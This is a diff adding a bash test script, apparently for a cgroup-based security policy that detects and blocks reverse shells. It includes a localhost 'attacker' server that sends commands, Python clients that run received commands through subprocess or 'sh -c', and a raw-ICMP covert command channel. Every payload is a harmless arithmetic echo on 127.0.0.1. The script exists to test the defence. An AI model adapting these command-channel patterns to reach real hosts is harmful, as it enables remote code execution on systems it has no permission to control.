@@ -1,0 +1,132 @@
+# SPDX-License-Identifier: GPL-2.0-only
+# Who runs what it is told over a connection, without a shell, through a helper, by
+# packets, or when the connection is closed.
+# shellcheck shell=bash disable=SC2016,SC2034,SC2154
+
+python=/usr/bin/python3
+cg=$(cgroup free)
+
+# The other end: says what to run and looks at what comes back.
+cat >attacker.py <<'END'
+import socket, sys
+server = socket.create_server(("127.0.0.1", 4330))
+print("ready", flush=True)
+server.settimeout(30)
+data = b""
+try:
+    while not data:
+        c = server.accept()[0]
+        c.settimeout(30)
+        c.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + sys.argv[1].encode() + b"\n")
+        if sys.argv[2]:
+            c.shutdown(socket.SHUT_WR)
+        while new := c.recv(4096):
+            data += new
+except OSError:
+    pass
+print(data.decode(errors="replace"), flush=True)
+END
+
+# told WORDS PROGRAM: what came back from who runs WORDS as PROGRAM does it
+told() {
+	local attacker
+	: >attacker.out
+	$python attacker.py "$1" "${to_end:-}" >attacker.out 2>&1 &
+	attacker=$!
+	poll grep -q ready attacker.out
+	timeout 60 /opt/csec/bin/cgexec "$cg" $python -c "$receive
+try:
+    $2
+except OSError:
+    o = b'denied'
+    if s.fileno() < 0: back()
+s.sendall(o or b'nothing')" </dev/null >told.out 2>&1
+	wait $attacker
+	cat attacker.out told.out
+}
+receive='
+import socket, subprocess, shlex
+s = socket.create_connection(("127.0.0.1", 4330))
+b = bytearray(4096)
+n = s.recv_into(b)
+line = b[:n].decode().split("\r\n\r\n")[1]
+def again():
+    global s
+    s.close()
+    b[:] = bytes(4096)
+def back():
+    global s
+    s = socket.create_connection(("127.0.0.1", 4330))
+def run(*words): return subprocess.run(words, capture_output=True).stdout'
+words='o = run(*shlex.split(line))'
+helper='o = run("env", "sh", "-c", line)'
+own='o = run("expr", "40000", "+", "242")'
+reused='text = b"expr 40000 + 242\0"; b[:len(text)] = text; o = run("expr", "40000", "+", "242")'
+fetched="again(); o = run('sh', '-c', line); back()"
+fetched_to_end="s.recv(1); s.recv(1); $fetched"
+fetched_words='again(); o = run(*shlex.split(line)); back()'
+fetched_own='again(); o = run("sh", "-c", "expr 40000 + 242"); back()'
+part='o = run("expr", "40000", "+", "242", "+", "0")'
+
+# By ICMP, in a packet that has its head and a word in front.
+cat >packet.py <<'END'
+import socket, struct, subprocess, sys
+def sum16(b):
+    b += b"\0" * (len(b) % 2)
+    t = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    t = (t >> 16) + (t & 0xffff)
+    return struct.pack("!H", ~(t + (t >> 16)) & 0xffff)
+s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+s.settimeout(20)
+text = b"do:" + sys.argv[1].encode() + b"\n"
+s.sendto(b"\0\x09" + sum16(b"\0\x09\0\0\0\0\0\0" + text) + b"\0\0\0\0" + text, ("127.0.0.1", 0))
+while True:
+    d = s.recv(4096)[20:]
+    if d[:2] == b"\0\x09" and d[8:11] == b"do:":
+        break
+command = d[11:].decode() if len(sys.argv) < 3 else sys.argv[2]
+print(subprocess.run(command, shell=True, capture_output=True).stdout.decode())
+END
+
+contains 'without a policy: words' 40242 told 'expr 40000 + 242' "$words"
+contains 'without a policy: quoted words' 40242 told "expr '40000' + 242" "$words"
+contains 'without a policy: a helper starts the shell' GOT42 told 'echo GOT$((40+2))' "$helper"
+contains 'without a policy: fetched' GOT42 told 'echo GOT$((40+2))' "$fetched"
+to_end=1 contains 'without a policy: fetched to the end' GOT42 told 'echo GOT$((40+2))' "$fetched_to_end"
+contains 'without a policy: fetched words' 40242 told 'expr 40000 + 242' "$fetched_words"
+contains 'without a policy: packets' GOT42 in_cgroup "$cg" $python packet.py 'echo GOT$((40+2))'
+
+policy=told
+cg=$(cgroup deny)
+govern told "$cg" <<'END' || fail 'a policy is pushed'
+shells: {reverse: deny, bind: deny, connect: deny}
+END
+before=$(counter told reverse_shell)
+is_refused() {
+	lacks "$1: is stopped" "${@:2}"
+	at_least "$1: is counted" $((before + 1)) "$(counter told reverse_shell)"
+	before=$(counter told reverse_shell)
+}
+is_refused words 40242 told 'expr 40000 + 242' "$words"
+equals 'the receiver is named' python3 "$(field target_comm)"
+equals 'and the peer' 4330 "$(field peer_port)"
+is_refused 'quoted words' 40242 told "expr '40000' + 242" "$words"
+is_refused 'a helper starts the shell' GOT42 told 'echo GOT$((40+2))' "$helper"
+is_refused fetched GOT42 told 'echo GOT$((40+2))' "$fetched"
+equals 'the peer of what was fetched' 4330 "$(field peer_port)"
+to_end=1 is_refused 'fetched to the end' GOT42 told 'echo GOT$((40+2))' "$fetched_to_end"
+is_refused 'fetched words' 40242 told 'expr 40000 + 242' "$fetched_words"
+is_refused packets GOT42 in_cgroup "$cg" $python packet.py 'echo GOT$((40+2))'
+
+# Who runs programs of its own.
+contains 'a program of its own' 40242 told 'GET /expr HTTP/1.0' "$own"
+contains 'one that is a word of what came' 40242 told 'expr' "$own"
+contains 'one that has more words' 40242 told 'expr 40000 + 242' "$part"
+contains 'one whose words it wrote there' 40242 told 'expr 40000 + 242 to be forgotten' "$reused"
+contains 'a name that came' "$(uname)" told uname "$words"
+contains 'something is fetched, then a command of its own' 40242 \
+	told 'expr 40000 + 242 is what' "$fetched_own"
+contains 'packets, and a command of its own' own-42 \
+	in_cgroup "$cg" $python packet.py 'echo GOT$((40+2))' 'echo own-$((40+2))'
+equals 'and nothing of it is refused' "$before" "$(counter told reverse_shell)"
+accounts
